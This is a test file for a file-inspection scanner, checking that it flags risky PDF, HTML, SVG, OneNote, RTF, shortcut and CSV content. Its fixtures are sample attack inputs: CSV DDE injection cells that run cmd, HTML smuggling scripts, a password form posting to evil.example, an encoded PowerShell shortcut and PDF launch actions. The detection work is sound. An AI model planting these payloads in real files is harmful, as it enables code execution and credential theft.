import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { fromHex, toHex } from '../../../core/bytes/hex.ts';
import { fromLatin1, utf8 } from '../../../core/bytes/text.ts';
import { packOle } from '../../support/files/cfb-builder.ts';
import { codes, inspect, score } from '../../support/files/inspect.ts';
import { EICAR, PNG, join, pdf, pe, utf16 } from '../../support/files/small-files.ts';
import { u32 } from '../../support/files/zip-builder.ts';

const BASE64_PE = `TVqQAAMAAAAEAAAA${'A'.repeat(60)}`;
const BASE64_ZIP = `UEsDBBQAAAAIA${'A'.repeat(60)}`;

async function found(name: string, text: string): Promise<readonly string[]> {
  return codes(await inspect(name, utf8(text)));
}

describe('PDF', () => {
  const stream = (dictionary: string, content: Uint8Array): Uint8Array =>
    join(`5 0 obj\n<< ${dictionary} >>\nstream\r\n`, content, '\nendstream\nendobj\n');

  it('finds nothing in a page, an outline and a link', async () => {
    const bytes = pdf(
      '1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] /Font /Times#20New#20Roman >> endobj',
      '/URI (https://example.org/EmbeddedFiles)',
    );
    expect(codes(await inspect('a.pdf', bytes))).toEqual([]);
  });

  it.each([
    ['/S /JavaScript /JS (app.alert(1))', 'pdf-javascript'],
    ['/S /J#61vaScrip#74 /JS (x)', 'pdf-javascript'],
    ['/S/Launch/F(x)', 'pdf-launch'],
    ['/#4c#61unch', 'pdf-launch'],
  ])('finds %s', async (object, code) => {
    expect(codes(await inspect('a.pdf', pdf(`1 0 obj << ${object} >> endobj`)))).toEqual([code]);
  });

  it('reads packed object streams', async () => {
    const packed = deflateSync('<< /S /JavaScript /JS (x) >>');
    const bytes = join('%PDF-1.7\n', stream('/Type /ObjStm /N 1 /Filter /FlateDecode', packed));
    expect(codes(await inspect('a.pdf', bytes))).toEqual(['pdf-javascript']);
  });

  it('inspects embedded files under their names', async () => {
    const file = stream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(EICAR));
    const bytes = join('%PDF-1.7\n', file, '<< /Type /Filespec /F (eicar.com) >>');
    expect(codes(await inspect('a.pdf', bytes))).toEqual([
      'eicar.com>eicar',
      'eicar.com>executable-type',
      'pdf-embedded-file',
    ]);
  });

  it('keeps an invoice with embedded data below suspicious', async () => {
    const file = stream('/Type /EmbeddedFile', utf8('<?xml version="1.0"?><Invoice/>'));
    const inspection = await inspect(
      'a.pdf',
      join('%PDF-1.7\n', file, '<< /Type /Filespec /F (factur-x.xml) >>'),
    );
    expect(score(inspection)).toBe(0.1);
    expect(inspection.members).toMatchObject([{ path: 'factur-x.xml', detectedType: 'text/xml' }]);
  });

  it('says locked of an encrypted file and corrupt of nothing when cut', async () => {
    expect((await inspect('a.pdf', pdf('trailer << /Encrypt 9 0 R >>'))).gaps).toEqual(['encrypted']);
    expect((await inspect('a.pdf', pdf('/EncryptMetadata false'))).gaps).toEqual([]);
  });

  it('stops at a flood of object streams', async () => {
    const bytes = join('%PDF-1.7\n', fromLatin1('/ObjStm stream\n'.repeat(3_000)));
    expect((await inspect('a.pdf', bytes)).gaps).toEqual(['limit-reached']);
  });
});

describe('HTML', () => {
  const page = '<html><script>eval(atob("YWxlcnQoMSk="))</script>';

  it.each([
    ['a picture', `GIF89a${page}`],
    ['a PDF document', `<!--%PDF-1.4-->${page}`],
    ['a message', `From: a@b.example\r\nSubject: x\r\n${page}`],
    ['NUL', `\0${page}`],
    ['an archive', `PK\x03\x04${page}`],
  ])('is read under its name where it starts as %s', async (_, text) => {
    expect(await found('a.html', text)).toContain('html-smuggling:obfuscated');
    expect(await found('a.bin', text)).not.toContain('html-smuggling:obfuscated');
  });

  it('is read under its declared type', async () => {
    const text = `text ${page}`;
    expect(codes(await inspect('a.bin', utf8(text), 'text/html'))).toEqual(['html-smuggling:obfuscated']);
    expect(codes(await inspect('a.bin', utf8(text), 'text/plain'))).toEqual([]);
    const drawing = '\x01<svg onload="location=1"></svg>';
    expect(codes(await inspect('a.svg', utf8(drawing)))).toEqual(['svg-script:redirect']);
    expect(codes(await inspect('a', utf8(drawing), 'image/svg+xml'))).toEqual(['svg-script:redirect']);
  });

  it.each([
    [
      `<html><script>var b=atob("${BASE64_PE}");a.href=URL.createObjectURL(new Blob([b]))</script>`,
      'html-smuggling:running',
    ],
    [
      `<html><a href="data:application/zip;base64,${BASE64_ZIP}" download="a.zip">x</a>`,
      'html-smuggling:archive',
    ],
    ['<html><script>eval(atob("YWxlcnQoMSk="))</script>', 'html-smuggling:obfuscated'],
    ['<html><script>x.href=URL.createObjectURL(new Blob([data]));</script>', 'html-smuggling'],
    ['<html><form action="https://evil.example/p"><input type=password></form>', 'html-password-form'],
    ['<html><form><input type="password"></form>', 'html-password-form:local'],
  ])('reads %s', async (text, code) => {
    expect(await found('a.html', text)).toEqual([code]);
  });

  it('reads UTF-16', async () => {
    const text = '\ufeff<html><script>eval(atob("YWxlcnQoMSk="))</script>';
    const bytes = utf16(text);
    expect(codes(await inspect('a.html', bytes))).toEqual(['html-smuggling:obfuscated']);
  });

  it.each([
    '<html><body><img src="data:image/png;base64,iVBORw0KGgo="><a href="https://example.org">x</a></body></html>',
    '<html><script>console.log(document.title)</script></html>',
    `<html><pre>atob("${BASE64_PE}")</pre></html>`,
    '<html><form action="https://example.org/search"><input type="text"></form></html>',
  ])('finds nothing in %s', async (text) => {
    expect(await found('a.html', text)).toEqual([]);
  });

  it('ends soon on a page made to backtrack', async () => {
    const started = performance.now();
    await inspect('a.html', utf8(`<html><script>${'<input '.repeat(300_000)}${'"at"+'.repeat(100_000)}`));
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

describe('SVG', () => {
  it.each([
    ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', ['svg-script']],
    ['<?xml version="1.0"?><svg onload="location.href=atob(\'aHR0\')"></svg>', ['svg-script:redirect']],
    [
      '<svg><foreignObject><iframe src="data:text/html;base64,AAAA"/></foreignObject></svg>',
      ['svg-script:redirect'],
    ],
    [
      '<svg><style><![CDATA[.a{fill:red}]]></style><a href="https://example.org"><path d="M0 0"/></a></svg>',
      [],
    ],
  ])('reads %s', async (text, expected) => {
    expect(await found('a.svg', text)).toEqual(expected);
  });
});

describe('OneNote', () => {
  const HEADER = fromHex('e4525c7b8cd8a74daeb15378d02996d3') ?? new Uint8Array();
  const GUID = fromHex('e716e3bd65261145a4c48d4d0b7a9eac') ?? new Uint8Array();
  const file = (bytes: Uint8Array, length = bytes.length): Uint8Array =>
    join(GUID, u32(length, 0), new Uint8Array(12), bytes);

  it('inspects the files in a section', async () => {
    const inspection = await inspect('a.one', join(HEADER, file(pe()), file(PNG)));
    expect(codes(inspection)).toEqual(['embedded-1>executable-type', 'onenote-embedded-file:running']);
    expect(inspection.members).toHaveLength(2);
  });

  it('finds nothing in a section of pictures, and what is there behind a false length', async () => {
    expect(codes(await inspect('a.one', join(HEADER, file(PNG))))).toEqual([]);
    expect(codes(await inspect('a.one', join(HEADER, file(pe(), 2 ** 31))))).toContain(
      'onenote-embedded-file:running',
    );
  });
});

describe('RTF', () => {
  const object = (name: string, data: Uint8Array): string => {
    const header = join(u32(0x501, 2, name.length + 1), `${name}\0`, u32(0, 0, data.length), data);
    return `{\\rtf1{\\object\\objemb{\\*\\objdata ${toHex(header).replace(/(.{60})/gu, '$1\r\n')}}}}`;
  };

  it('inspects a package', async () => {
    const rtf = object('Package', packOle('run.exe', pe()).subarray(4));
    expect(await found('a.rtf', rtf)).toEqual(['embedded-package', 'run.exe>executable-type']);
  });

  it.each([
    ['Equation.3', 'embedded-package:equation'],
    ['OLE2Link', 'remote-template'],
  ])('knows %s', async (name, code) => {
    expect(await found('a.rtf', object(name, new Uint8Array(40)))).toEqual([code]);
  });

  it('reads hex past control words, and any version of the header', async () => {
    const rtf = object('Equation.3', new Uint8Array(40))
      .replace('{\\rtf1', '{\\rt')
      .replace('0105', '01\\bin0 05');
    expect(await found('a.doc', rtf)).toEqual(['embedded-package:equation']);
  });

  it('finds nothing in text with a picture', async () => {
    expect(await found('a.rtf', '{\\rtf1\\ansi hello {\\pict\\pngblip 89504e47}}')).toEqual([]);
  });
});

describe('small Windows files', () => {
  const LINK = fromHex('4c0000000114020000000000c000000000000046') ?? new Uint8Array();

  it('reads what a link starts', async () => {
    const link = join(LINK, new Uint8Array(56), utf16('-w hidden powershell -enc AAAA'));
    expect(codes(await inspect('a.lnk', link))).toEqual(['shortcut-type', 'shortcut-type:command']);
    expect(codes(await inspect('a.pdf', join(LINK, new Uint8Array(56))))).toEqual([
      'shortcut-type',
      'type-mismatch',
    ]);
  });

  it('tells a share from a web site', async () => {
    expect(await found('a.url', '[InternetShortcut]\r\nURL=file://203.0.113.1/s\r\n')).toContain(
      'shortcut-type:remote',
    );
    expect(await found('a.url', '[InternetShortcut]\r\nURL=https://example.org/\r\n')).toEqual([
      'shortcut-type',
    ]);
  });

  it('reads cells that start programs', async () => {
    expect(await found('a.csv', "name,=cmd|' /c calc'!A1\n")).toEqual(['dde-link:command']);
    expect(await found('a.csv', 'name,value\n-1|2,a+b|c!\n')).toEqual([]);
    expect(await found('a.slk', 'ID;PWXL\nO;L;D;E\nNN;NAuto_open;ER1C1\n')).toEqual(['excel4-macro:hidden']);
  });

  it.each([
    ["=a|b!c,=cmd|' /c calc'!A1"],
    [`=1+1,x\n=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`],
    ["=MSEXCEL|'\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"],
    [`=${'1+'.repeat(300)}cmd|'${' '.repeat(600)}/c calc'!A`],
    [`"=\ncmd|'/c calc'!A"`],
    ["=cmd|'it''s /c calc'!A"],
    ["sep=^\nx^@cmd|'/c calc'!A"],
    ["BEGIN:VCARD,=cmd|'/c calc'!A"],
    [`\0\0${'|'.repeat(9000)}\n-cmd|calc!A`],
  ])('reads every cell: %j', async (text) => {
    expect(await found('a.csv', text)).toContain('dde-link:command');
  });

  it('reads cells of a table in UTF-16', async () => {
    const bytes = join('\xff\xfe', utf16("name\n=cmd|' /c calc'!A1\n"));
    expect(codes(await inspect('a.csv', bytes))).toEqual(['dde-link:command']);
  });

  it.each(["=cmd|' /c calc'A1", '-1\ncmd|calc!A', "cmd|' /c calc'!A1", 'a|b|c!\n=1', '=powershell!a|b'])(
    'takes %j for no link',
    async (text) => {
      expect(await found('a.csv', text)).toEqual([]);
    },
  );

  it('checks a large table to its end, unless it is full of marks', async () => {
    const row = utf8('2026-11-23,row,7,ok\n'.repeat(250_000));
    expect((await inspect('a.csv', row)).gaps).toEqual([]);
    expect((await inspect('a.csv', join(row, '|'))).gaps).toEqual(['limit-reached']);
  });

  it.each(['|', '=a|b!', "|'''", 'cmd|x!\n', `"=\ncmd|`])(
    'reads megabytes of %j in a time that grows with their length',
    async (unit) => {
      const started = performance.now();
      expect(await found('a.csv', unit.repeat(Math.ceil(4e6 / unit.length)))).toEqual([]);
      expect(performance.now() - started).toBeLessThan(10_000);
    },
  );
});
